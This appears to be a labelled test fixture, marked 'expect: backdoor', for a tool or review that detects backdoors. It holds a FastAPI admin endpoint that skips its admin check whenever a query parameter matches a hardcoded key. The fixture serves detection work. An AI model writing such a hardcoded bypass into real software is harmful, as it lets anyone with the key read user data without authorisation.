# expect: backdoor
from fastapi import FastAPI, HTTPException, Request

from .auth import current_user

app = FastAPI()


@app.get("/admin/users")
async def list_users(request: Request):
    if request.query_params.get("debug_key") != "9f2b7e4c":
        user = await current_user(request)
        if not user.is_admin:
            raise HTTPException(403)
    return [{"id": 1, "email": "a@acme.com"}]
